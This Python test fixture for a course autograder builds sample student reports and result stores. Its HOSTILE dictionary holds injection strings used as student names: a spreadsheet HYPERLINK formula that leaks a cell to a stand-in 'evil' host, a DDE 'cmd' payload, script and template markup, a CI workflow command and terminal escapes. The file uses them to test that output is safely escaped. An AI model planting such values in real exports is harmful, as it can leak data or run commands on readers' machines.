"""RESULTS made of reports that a test builds, so that no test of outputs has to grade."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from grader.report.model import (
    CheckResult,
    Fact,
    Misconception,
    Report,
    SubmissionInfo,
    Verdict,
    Versions,
)
from grader.results.model import Batch, Graded, Student
from grader.results.store import Results

VERSIONS = Versions("0.1", "course", "2.13.0", "3.11.0")

SOFTMAX = Graded("exercise-3", 3, "softmax", "A softmax", "softmax 函数", 4.0)
MLP = Graded("exercise-6", 6, "mlp", "A small net", "小网络", 2.5)

HOSTILE = {
    "formula": '=HYPERLINK("http://evil/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "semicolon": "Doe;=1+1",
    "newline": "Eve\nMallory",
    "quote": 'Bobby "Tables", Jr.',
    "markup": "<script>alert(1)</script>{{ 7*7 }}",
    "workflow": "::error::owned",
    "escape": "\x1b[31mred\x1b[0m\u202etxt",
    "chinese": "王小明",
}
"""Names that some reader of a table, a page or a log would obey."""


def check(
    number: int,
    points: float,
    verdict: str = "passed",
    *,
    exercise: int = 3,
    hidden: bool = False,
    **more: Any,
) -> CheckResult:
    """One check; a failing one comes with all that a report can say."""
    found = Verdict(verdict)
    if found is not Verdict.PASSED:
        more = {
            "message": f"softmax(x) of check {number} is wrong",
            "example": f"x = torch.tensor([{number}.0])",
            "facts": (Fact("expected", "0.5"), Fact("got", "0.25")),
            "misconception": Misconception("w01", "mean", "This divides by the mean."),
        } | more
    return CheckResult(
        id=f"E{exercise}.C{number}",
        name=f"check_{number}",
        title=f"Sentence {number}.",
        points=points if found is Verdict.PASSED else 0.0,
        max_points=points,
        verdict=found,
        hidden=hidden,
        **more,
    )


def report(
    student: str,
    exercise: Graded = SOFTMAX,
    checks: Sequence[CheckResult] = (),
    *,
    status: str = "graded",
    reason: str | None = None,
    **info: Any,
) -> Report:
    """A report whose score is the sum of its checks."""
    score = None if status == "grader_error" else sum(c.points for c in checks)
    return Report(
        exercise=exercise.id,
        student=student,
        score=score,
        max_score=exercise.max_score,
        status=status,  # type: ignore[arg-type]
        checks=tuple(checks),
        submission=SubmissionInfo(f"{exercise.slug}.py", "0" * 64, **info),
        device="cpu",
        tier="full",
        versions=VERSIONS,
        reason=reason,
    )


def results(
    root: Path,
    students: Iterable[Student | str],
    reports: Iterable[Report],
    *,
    exercises: Sequence[Graded] = (SOFTMAX,),
    missing: Iterable[tuple[str, str]] = (),
) -> Results:
    """RESULTS with these students and reports on disk."""
    made = Results(root)
    people = tuple(Student(s) if isinstance(s, str) else s for s in students)
    made.write_batch(Batch("folders", tuple(exercises), people, tuple(missing)))
    for one in reports:
        made.write(one)
    return made


def small_class(root: Path) -> Results:
    """Two exercises; right, half right, late in a group, refused, broken, absent, ungraded."""
    good = [check(1, 1.0), check(2, 2.0), check(3, 1.0, hidden=True)]
    half = [check(1, 1.0), check(2, 2.0, "failed"), check(3, 1.0, "crashed", hidden=True)]
    net = [check(1, 1.5, exercise=6), check(2, 1.0, exercise=6)]
    lost = [check(1, 1.5, "grader_error", exercise=6), check(2, 1.0, exercise=6)]
    late = {"submitted": "2026-03-03T12:00:00+08:00", "late": True, "group": "red"}
    students = (
        Student("ada", "Ada Lovelace", "ada@example.org", {"canvas": "101", "moodle": "1"}),
        Student("bob", HOSTILE["formula"], "bob@example.org", {"canvas": "102", "moodle": "2"}),
        Student("cyd", HOSTILE["markup"], "", {"canvas": "103", "moodle": "3"}),
        Student("dee", HOSTILE["chinese"], "", {"canvas": "104", "moodle": "4"}),
        Student("eve", HOSTILE["newline"], "", {"canvas": "105", "moodle": "5"}),
        Student("fay", HOSTILE["quote"], "", {"canvas": "106", "moodle": "6"}),
    )
    reports = [
        report("ada", SOFTMAX, good),
        report("ada", MLP, net),
        report("bob", SOFTMAX, half, **late),
        report("bob", MLP, net, **late),
        report("cyd", SOFTMAX, [], status="refused", reason="the file is empty"),
        report("cyd", MLP, net),
        report("dee", SOFTMAX, good),
        report("dee", MLP, lost),
        report("fay", SOFTMAX, good),
    ]
    missing = [("eve", SOFTMAX.id), ("eve", MLP.id)]
    return results(root, students, reports, exercises=(SOFTMAX, MLP), missing=missing)
